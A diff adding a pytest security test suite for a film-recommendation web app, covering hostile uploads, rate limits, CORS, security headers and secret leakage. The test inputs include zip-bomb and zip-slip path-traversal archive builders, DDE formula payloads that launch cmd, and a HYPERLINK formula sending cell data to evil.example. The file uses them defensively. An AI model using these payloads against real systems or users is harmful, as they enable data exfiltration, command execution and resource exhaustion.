@@ -1,0 +1,492 @@
+"""Hostile input and what the app gives away: uploads, ids, per-client limits, headers, CORS and secrets."""
+from __future__ import annotations
+
+import base64
+import csv
+import io
+import logging
+import os
+import subprocess
+import sys
+import threading
+import time
+import uuid
+import zipfile
+from pathlib import Path
+from typing import Iterator
+
+import pytest
+import redis
+import requests
+from bs4 import BeautifulSoup
+
+from tests.fakes import API_KEY, FakeUpstreams, build_world
+from tests.integration.test_faults import copy_var, follow, read_channel, recommend, start_run
+from tests.integration.test_gunicorn import Gunicorn
+from tests.support.redis_server import RedisServer
+
+ROOT = Path(__file__).resolve().parents[2]
+UPLOAD_LIMIT_MB = 0.25
+INTERNAL_TOKEN = "internal-token-7d1f9c0b2e"
+REDIS_PASSWORD = "redis-pass-4b8e1a6f"
+GET_PAGES_PER_MINUTE = 10
+
+
+# ----- fixtures ----------------------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def fakes() -> Iterator[FakeUpstreams]:
+    upstreams = FakeUpstreams.start(build_world(popular_members=10))
+    yield upstreams
+    upstreams.stop()
+
+
+@pytest.fixture(autouse=True)
+def calm_fakes(fakes) -> Iterator[None]:
+    fakes.reset()
+    yield
+    fakes.reset()
+
+
+@pytest.fixture(scope="module")
+def app(start_app, fakes):
+    """Limits off, a small upload limit, Letterboxd on the fakes, TMDB off (nothing is written to the store)."""
+    return start_app({"ratelimit_enabled": False, "max_upload_mb": UPLOAD_LIMIT_MB,
+                      "letterboxd_base_url": fakes.letterboxd.url})
+
+
+@pytest.fixture(scope="module")
+def limited_app(start_app, fakes):
+    """Rate limits on: two open streams and one running job per client."""
+    return start_app({"ratelimit_enabled": True, "max_streams_per_client": 2, "max_active_jobs_per_client": 1,
+                      "letterboxd_base_url": fakes.letterboxd.url})
+
+
+@pytest.fixture(scope="module")
+def unlimited_app(start_app, fakes):
+    """The same limits, lifted by RATELIMIT_ENABLED=false."""
+    return start_app({"ratelimit_enabled": False, "max_streams_per_client": 2, "max_active_jobs_per_client": 1,
+                      "letterboxd_base_url": fakes.letterboxd.url})
+
+
+def store_state(facade) -> tuple:
+    """What the store holds: its version, film count and collected rows."""
+    store = facade.store
+    return store.version(), len(store.films()), tuple(sorted(store.collected_counts().items()))
+
+
+def tree(folder: Path) -> set[str]:
+    return {str(p.relative_to(folder)) for p in folder.rglob("*") if not p.name.endswith(("-wal", "-shm"))}
+
+
+# ----- hostile uploads ---------------------------------------------------------------------------
+
+
+def zip_of(entries: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", compression) as archive:
+        for name, data in entries.items():
+            archive.writestr(name, data)
+    return buffer.getvalue()
+
+
+RATINGS = b"Date,Name,Year,Letterboxd URI,Rating\n2024-01-01,Inception,2010,https://boxd.it/abc,4\n"
+TRAVERSAL_NAME = f"lbr-escape-{uuid.uuid4().hex[:8]}.csv"
+
+
+def zip_bomb() -> bytes:
+    """A ratings.csv of 64 MB of zeros, deflated to about 64 KB."""
+    return zip_of({"ratings.csv": b"Name,Year,Rating\n" + b"0" * (64 * 1024 * 1024)})
+
+
+def zip_that_understates_its_size() -> bytes:
+    """An entry whose headers claim 1 KB while its data inflates to megabytes."""
+    body = b"Name,Year,Rating\n" + b"Inception,2010,4\n" * 400_000
+    data = bytearray(zip_of({"ratings.csv": body}))
+    claimed = (1024).to_bytes(4, "little")
+    local = data.find(b"PK\x03\x04")
+    central = data.find(b"PK\x01\x02")
+    data[local + 22: local + 26] = claimed
+    data[central + 24: central + 28] = claimed
+    return bytes(data)
+
+
+BAD_UPLOADS = {
+    "a zip bomb": ("export.zip", zip_bomb),
+    "a zip whose headers understate its size": ("export.zip", zip_that_understates_its_size),
+    "a ../ path in the zip": ("export.zip", lambda: zip_of({f"../../{TRAVERSAL_NAME}": RATINGS,
+                                                           "ratings.csv": RATINGS})),
+    "a nested ../ path in the zip": ("export.zip", lambda: zip_of({f"export/../../{TRAVERSAL_NAME}": RATINGS})),
+    "an absolute path in the zip": ("export.zip", lambda: zip_of({f"/tmp/{TRAVERSAL_NAME}": RATINGS})),
+    "a drive letter path in the zip": ("export.zip", lambda: zip_of({f"C:\\temp\\{TRAVERSAL_NAME}": RATINGS})),
+    "a latin-1 csv": ("ratings.csv", lambda: "Name,Year,Rating\nAmélie,2001,4\n".encode("latin-1")),
+    "a utf-16 csv": ("ratings.csv", lambda: "Name,Year,Rating\nAmélie,2001,4\n".encode("utf-16")),
+    "a csv with NUL bytes": ("ratings.csv", lambda: b"Name,Year,Rating\n\x00\x00\x00,2001,4\n"),
+    "an empty file": ("ratings.csv", lambda: b""),
+    "an empty zip name with no bytes": ("export.zip", lambda: b""),
+    "a non-zip named .zip": ("export.zip", lambda: b"%PDF-1.7 definitely not a zip " * 20),
+    "a truncated zip": ("export.zip", lambda: zip_of({"ratings.csv": RATINGS})[:40]),
+    "a zip with no export files": ("export.zip", lambda: zip_of({"notes.txt": b"hello"})),
+    "a csv that is not an export": ("data.csv", lambda: b"a,b,c\n1,2,3\n"),
+    "an upload just over the limit": ("ratings.csv",
+                                      lambda: RATINGS + b"x" * int(UPLOAD_LIMIT_MB * 1024 * 1024)),
+}
+
+
+@pytest.mark.timeout(60)
+@pytest.mark.parametrize("kind", list(BAD_UPLOADS))
+def test_a_bad_upload_is_refused_in_the_error_shape_and_nothing_is_written(app, shared_var, kind):
+    filename, make = BAD_UPLOADS[kind]
+    data = make()
+    before, files_before = store_state(app.facade), tree(shared_var)
+    r = requests.post(f"{app.url}/api/recommend", files={"export": (filename, data)},
+                      data={"include_streaming": "false"}, timeout=30)
+    assert r.status_code in (400, 413), (kind, r.status_code, r.text[:300])
+    body = r.json()
+    assert set(body) == {"error", "message"} and body["message"]
+    assert body["error"] == ("upload_too_large" if r.status_code == 413 else "invalid_upload")
+    assert store_state(app.facade) == before
+    assert tree(shared_var) == files_before
+    for folder in (ROOT, ROOT / "var", shared_var, shared_var.parent, Path("/tmp")):
+        assert not (folder / TRAVERSAL_NAME).exists()
+
+
+@pytest.mark.timeout(30)
+def test_a_request_body_over_the_limit_is_refused_before_it_is_read(app):
+    r = requests.post(f"{app.url}/api/recommend",
+                      files={"export": ("export.zip", b"0" * int(UPLOAD_LIMIT_MB * 4 * 1024 * 1024))}, timeout=30)
+    assert r.status_code == 413
+    assert set(r.json()) == {"error", "message"} and f"{UPLOAD_LIMIT_MB:g} MB" in r.json()["message"]
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/steal?d="&A1,"Click me")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C notepad'!A0",
+    "=1+1",
+]
+
+
+def formula_export() -> bytes:
+    """ratings.csv with a few real films and cells that spreadsheets would run as formulas."""
+    out = io.StringIO()
+    writer = csv.writer(out, lineterminator="\n")
+    writer.writerow(["Date", "Name", "Year", "Letterboxd URI", "Rating"])
+    for i, (title, year) in enumerate([("Inception", 2010), ("Pulp Fiction", 1994), ("Fight Club", 1999)]):
+        writer.writerow([f"2024-01-0{i + 1}", title, year, f"https://boxd.it/a{i}", 4])
+    for i, formula in enumerate(FORMULAS):
+        writer.writerow([f"2024-02-0{i + 1}", formula, 2001 + i, f"https://boxd.it/f{i}", 3])
+    profile = "Date Joined,Username,Given Name\n2020-01-01,=cmd|' /C calc'!A0,=1+1\n"
+    return zip_of({"ratings.csv": out.getvalue().encode(), "profile.csv": profile.encode()})
+
+
+@pytest.mark.timeout(60)
+def test_formula_cells_are_echoed_back_as_plain_text_never_evaluated(app):
+    r = requests.post(f"{app.url}/api/recommend", files={"export": ("export.zip", formula_export())},
+                      data={"sync": "true", "include_streaming": "false", "count": "5"}, timeout=60)
+    assert r.status_code == 200, r.text
+    assert r.headers["Content-Type"].startswith("application/json")
+    body = r.json()
+    unmatched = {(u["name"], u["year"]) for u in body["profile"]["unmatched"]}
+    assert {(f, 2001 + i) for i, f in enumerate(FORMULAS)} <= unmatched
+    assert not any(u["name"] in ("2", "1", "Click me") for u in body["profile"]["unmatched"])
+    assert "=" not in body["username"] and "'" not in body["username"] and " " not in body["username"]
+
+
+# ----- request ids and streams -----------------------------------------------------------------
+
+
+def decoded_bits(request_id: str) -> int:
+    padded = request_id + "=" * (-len(request_id) % 4)
+    return len(base64.urlsafe_b64decode(padded)) * 8
+
+
+@pytest.mark.timeout(60)
+def test_server_chosen_request_ids_carry_at_least_128_random_bits_and_never_repeat(app):
+    ids = [start_run(app.url, username="nobody_by_this_name") for _ in range(12)]
+    assert len(set(ids)) == len(ids)
+    for request_id in ids:
+        assert set(request_id) <= set("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_")
+        assert decoded_bits(request_id) >= 128
+    shared_prefix = max(len(os.path.commonprefix([a, b])) for a in ids for b in ids if a != b)
+    assert shared_prefix < 6, "ids look sequential"
+
+
+@pytest.mark.timeout(60)
+def test_a_stream_yields_only_its_own_jobs_events(app, sample_export):
+    def start(count: int) -> str:
+        r = requests.post(f"{app.url}/api/recommend", files={"export": ("export.zip", sample_export)},
+                          data={"include_streaming": "false", "count": str(count)}, timeout=30)
+        assert r.status_code == 202, r.text
+        return r.json()["request_id"]
+
+    started = time.monotonic()
+    first, second = start(3), start(7)
+    outcomes = {}
+    threads = [threading.Thread(target=lambda rid=rid: outcomes.__setitem__(rid, follow(app.url, rid, started)))
+               for rid in (first, second)]
+    for t in threads:
+        t.start()
+    for t in threads:
+        t.join(60)
+    for rid, count in ((first, 3), (second, 7)):
+        outcome = outcomes[rid]
+        assert outcome.status == 200
+        assert len(outcome.cards) == count
+        assert [c["film_id"] for c in outcome.cards] == [x["film_id"] for x in outcome.body["recommendations"]]
+        assert outcome.body["request_id"] == rid
+        done = [e.data["message"] for e in outcome.streams["status"] if e.data.get("step") == "done"]
+        assert done == [f"Found {count} recommendations"]
+
+
+# ----- per-client limits -------------------------------------------------------------------------
+
+
+def open_stream(base: str, channel: str, request_id: str) -> requests.Response:
+    return requests.get(f"{base}/api/{channel}-stream", params={"request_id": request_id},
+                        headers={"Accept": "text/event-stream"}, stream=True, timeout=10)
+
+
+def slow_letterboxd(fakes: FakeUpstreams) -> None:
+    """Each Letterboxd answer takes long enough that a run is still going while the test acts."""
+    fakes.letterboxd.control.set(latency_s=1.5)
+
+
+@pytest.mark.timeout(60)
+def test_running_jobs_per_client_are_limited_and_the_slot_frees_when_a_job_ends(limited_app, fakes):
+    slow_letterboxd(fakes)
+    started = time.monotonic()
+    first = start_run(limited_app.url, username="member001")
+    second = requests.post(f"{limited_app.url}/api/recommend", json={"username": "member002"}, timeout=15)
+    assert second.status_code == 429
+    assert second.json()["error"] == "too_many_jobs" and set(second.json()) == {"error", "message"}
+    fakes.letterboxd.control.set(latency_s=0)
+    assert follow(limited_app.url, first, started).status == 200
+    assert requests.post(f"{limited_app.url}/api/recommend", json={"username": "member003"},
+                         timeout=15).status_code == 202
+
+
+@pytest.mark.timeout(60)
+def test_open_streams_per_client_are_limited_and_a_closed_stream_frees_its_place(limited_app, fakes):
+    slow_letterboxd(fakes)
+    request_id = start_run(limited_app.url, username="member004")
+    held = [open_stream(limited_app.url, ch, request_id) for ch in ("status", "logs")]
+    try:
+        assert [r.status_code for r in held] == [200, 200]
+        third = open_stream(limited_app.url, "recommendations", request_id)
+        assert third.status_code == 429 and third.json()["error"] == "too_many_streams"
+        held.pop().close()
+        deadline = time.monotonic() + 10
+        while True:
+            again = open_stream(limited_app.url, "recommendations", request_id)
+            if again.status_code == 200 or time.monotonic() > deadline:
+                break
+            time.sleep(0.5)
+        held.append(again)
+        assert again.status_code == 200, "the closed stream's place was given back"
+    finally:
+        for r in held:
+            r.close()
+        fakes.letterboxd.control.set(latency_s=0)
+
+
+@pytest.mark.timeout(60)
+def test_ratelimit_enabled_false_lifts_the_job_and_stream_limits(unlimited_app, fakes):
+    slow_letterboxd(fakes)
+    ids = [start_run(unlimited_app.url, username=f"member00{i}") for i in (5, 6, 7)]
+    streams = [open_stream(unlimited_app.url, ch, rid) for rid in ids for ch in ("status", "logs")]
+    try:
+        assert [r.status_code for r in streams] == [200] * 6
+    finally:
+        for r in streams:
+            r.close()
+        fakes.letterboxd.control.set(latency_s=0)
+
+
+@pytest.fixture()
+def limiter_db(redis_url) -> Iterator[str]:
+    """A Redis database of its own for the shared rate-limit counters."""
+    url = redis_url.rsplit("/", 1)[0] + "/7"
+    client = redis.Redis.from_url(url)
+    client.flushdb()
+    yield url
+    client.flushdb()
+    client.close()
+
+
+@pytest.mark.timeout(150)
+def test_rate_limits_hold_across_two_gunicorn_workers_sharing_redis(limiter_db, shared_var, live_app, tmp_path):
+    env = {k: v for k, v in os.environ.items() if not k.startswith("GUNICORN")}
+    env.update({"REDIS_URL": limiter_db, "VAR_DIR": str(shared_var), "RATELIMIT_ENABLED": "true", "TMDB_KEY": "",
+                "LETTERBOXD_BASE_URL": "http://127.0.0.1:9", "TMDB_BASE_URL": "http://127.0.0.1:9/3",
+                "LOG_LEVEL": "WARNING", "WEB_CONCURRENCY": "2", "GUNICORN_THREADS": "8"})
+    server = Gunicorn(env, workers=2, log=tmp_path / "access.log")
+    try:
+        server.wait_ready()
+        codes = [requests.post(f"{server.url}/api/get_pages", json={"username": "bad name"},
+                               headers={"Connection": "close"}, timeout=10).status_code
+                 for _ in range(GET_PAGES_PER_MINUTE + 2)]
+        assert codes[:GET_PAGES_PER_MINUTE] == [400] * GET_PAGES_PER_MINUTE
+        assert codes[GET_PAGES_PER_MINUTE:] == [429, 429]
+        assert len(set(server.pids_for("/api/get_pages"))) == 2, "both workers answered"
+        assert redis.Redis.from_url(limiter_db).keys("LIMITER*"), "the counters live in Redis"
+    finally:
+        server.stop()
+
+
+# ----- operator endpoint, CORS, headers ----------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def guarded_app(start_app):
+    return start_app({"ratelimit_enabled": False, "internal_token": INTERNAL_TOKEN,
+                      "cors_origins": ("https://friend.example",)})
+
+
+@pytest.mark.timeout(30)
+@pytest.mark.parametrize("header", [None, "", "wrong", INTERNAL_TOKEN[:-1], INTERNAL_TOKEN + " ",
+                                    "t\u00e9st".encode("latin-1")])
+def test_incident_status_refuses_any_but_its_token(guarded_app, header):
+    headers = {} if header is None else {"X-Internal-Token": header}
+    r = requests.get(f"{guarded_app.url}/_incident-status", headers=headers, timeout=10)
+    assert r.status_code == 401
+    assert set(r.json()) == {"error", "message"} and INTERNAL_TOKEN not in r.text
+
+
+@pytest.mark.timeout(30)
+def test_incident_status_answers_with_its_token(guarded_app):
+    r = requests.get(f"{guarded_app.url}/_incident-status", headers={"X-Internal-Token": INTERNAL_TOKEN},
+                     timeout=10)
+    assert r.status_code == 200 and "letterboxd_circuit_open" in r.json()
+
+
+def preflight(base: str, origin: str) -> requests.Response:
+    return requests.options(f"{base}/api/recommend", headers={
+        "Origin": origin, "Access-Control-Request-Method": "POST",
+        "Access-Control-Request-Headers": "Content-Type"}, timeout=10)
+
+
+@pytest.mark.timeout(30)
+def test_cors_allows_exactly_the_configured_origins(guarded_app, app):
+    allowed = preflight(guarded_app.url, "https://friend.example")
+    assert allowed.headers.get("Access-Control-Allow-Origin") == "https://friend.example"
+    for origin in ("https://evil.example", "https://friend.example.evil.example", "null"):
+        assert "Access-Control-Allow-Origin" not in preflight(guarded_app.url, origin).headers
+    for origin in ("https://friend.example", "http://127.0.0.1"):
+        assert "Access-Control-Allow-Origin" not in preflight(app.url, origin).headers, "none configured: none"
+
+
+def script_sources(csp: str) -> list[str]:
+    directives = {part.split()[0]: part.split()[1:] for part in csp.split(";") if part.strip()}
+    return directives.get("script-src", directives.get("default-src", []))
+
+
+@pytest.mark.timeout(30)
+@pytest.mark.parametrize("path", ["/", "/results", "/some_member", "/api/openapi.json", "/_health",
+                                  "/api/result?request_id=unknown-request-1234", "/no/such/page"])
+def test_every_answer_carries_the_security_headers(app, path):
+    r = requests.get(f"{app.url}{path}", timeout=10)
+    csp = r.headers["Content-Security-Policy"]
+    sources = script_sources(csp)
+    assert "'self'" in sources
+    assert not {"'unsafe-inline'", "'unsafe-eval'", "*", "data:", "http:", "https:"} & set(sources)
+    assert "frame-ancestors 'none'" in csp and "object-src 'none'" in csp
+    assert r.headers["X-Content-Type-Options"] == "nosniff"
+    assert r.headers["X-Frame-Options"] == "DENY"
+    assert r.headers["Referrer-Policy"] in ("no-referrer", "strict-origin-when-cross-origin", "same-origin")
+
+
+@pytest.mark.timeout(30)
+@pytest.mark.parametrize("path", ["/", "/results", "/some_member"])
+def test_pages_hold_no_inline_script_the_policy_would_block(app, path):
+    soup = BeautifulSoup(requests.get(f"{app.url}{path}", timeout=10).text, "html.parser")
+    assert all(tag.get("src") and not tag.string for tag in soup.find_all("script"))
+    handlers = [(tag.name, attr) for tag in soup.find_all(True) for attr in tag.attrs if attr.lower().startswith("on")]
+    assert handlers == []
+    assert not soup.find_all(href=lambda v: v and v.strip().lower().startswith("javascript:"))
+
+
+# ----- secrets -----------------------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def locked_redis(tmp_path_factory) -> Iterator[RedisServer]:
+    server = RedisServer(tmp_path_factory.mktemp("locked-redis")).start()
+    redis.Redis(port=server.port).config_set("requirepass", REDIS_PASSWORD)
+    yield server
+    server.stop()
+
+
+@pytest.fixture(scope="module")
+def secret_var(live_app, shared_var, tmp_path_factory) -> Path:
+    return copy_var(shared_var, tmp_path_factory.mktemp("secret-var"))
+
+
+@pytest.fixture(scope="module")
+def secret_app(start_app, fakes, locked_redis, secret_var):
+    """TMDB on with its key, an internal token and a password-protected Redis."""
+    return start_app({**fakes.settings_overrides(), "var_dir": secret_var, "ratelimit_enabled": False,
+                      "internal_token": INTERNAL_TOKEN, "log_level": "INFO",
+                      "redis_url": f"redis://:{REDIS_PASSWORD}@127.0.0.1:{locked_redis.port}/0"})
+
+
+SECRETS = (API_KEY, INTERNAL_TOKEN, REDIS_PASSWORD)
+
+
+def exposed(texts: list[str]) -> list[str]:
+    return [secret for secret in SECRETS for text in texts if secret in text]
+
+
+def every_kind_of_answer(base: str, sample_export: bytes) -> list[str]:
+    """Drive a run of each kind and the operator endpoints; return every status line, header and body."""
+    seen: list[requests.Response] = []
+    outcome = recommend(base, username="cinephile", include_streaming=True, country="US", count=5)
+    assert outcome.status == 200 and any(c["poster"] for c in outcome.cards), "TMDB was used"
+    texts = [str(e.data) for events in outcome.streams.values() for e in events] + [str(outcome.body)]
+    seen.append(requests.post(f"{base}/api/recommend", files={"export": ("export.zip", sample_export)},
+                              data={"sync": "true", "count": "5"}, timeout=60))
+    seen.append(requests.post(f"{base}/api/recommend", json={"username": "nobody_by_this_name", "sync": True},
+                              timeout=30))
+    seen.append(requests.post(f"{base}/api/get_pages", json={"username": "cinephile"}, timeout=30))
+    seen.append(requests.get(f"{base}/_health", timeout=10))
+    seen.append(requests.get(f"{base}/_incident-status", headers={"X-Internal-Token": INTERNAL_TOKEN}, timeout=10))
+    seen.append(requests.get(f"{base}/_incident-status", timeout=10))
+    seen.append(requests.get(f"{base}/api/result", params={"request_id": outcome.request_id}, timeout=10))
+    seen.append(requests.post(f"{base}/api/recommend", data=b"{", headers={"Content-Type": "application/json"},
+                              timeout=10))
+    texts += [f"{r.status_code} {dict(r.headers)} {r.text}" for r in seen]
+    return texts
+
+
+@pytest.mark.timeout(120)
+def test_no_secret_reaches_a_response_or_the_logs_during_runs_with_tmdb_on(secret_app, sample_export, caplog):
+    caplog.set_level(logging.INFO)
+    texts = every_kind_of_answer(secret_app.url, sample_export)
+    assert secret_app.facade.link.ping(), "the password-protected Redis is in use"
+    assert exposed(texts) == []
+    assert exposed([caplog.text] + [str(r.args) for r in caplog.records]) == []
+
+
+@pytest.mark.timeout(120)
+@pytest.mark.xfail(strict=True, reason="urllib3 logs each request line at DEBUG, with TMDB's api_key in the "
+                                       "query string; see the report for the redacting log filter")
+def test_no_secret_reaches_the_logs_even_at_debug_level(secret_app, sample_export, caplog):
+    caplog.set_level(logging.DEBUG)
+    every_kind_of_answer(secret_app.url, sample_export)
+    assert exposed([caplog.text]) == []
+
+
+@pytest.mark.timeout(120)
+def test_the_command_line_prints_no_secret(fakes, locked_redis, secret_var, tmp_path):
+    export = tmp_path / "export.zip"
+    export.write_bytes((ROOT / "tests" / "data" / "sample_export.zip").read_bytes())
+    env = {**os.environ, **fakes.env(), "VAR_DIR": str(secret_var), "INTERNAL_TOKEN": INTERNAL_TOKEN,
+           "REDIS_URL": f"redis://:{REDIS_PASSWORD}@127.0.0.1:{locked_redis.port}/0", "LOG_LEVEL": "INFO"}
+    done = subprocess.run([sys.executable, "main.py", "recommend", "--export", str(export), "--count", "5",
+                           "--country", "US", "--json"], cwd=ROOT, env=env, capture_output=True, text=True,
+                          timeout=110)
+    assert done.returncode == 0, done.stderr[-2000:]
+    assert '"recommendations"' in done.stdout
+    assert exposed([done.stdout, done.stderr]) == []
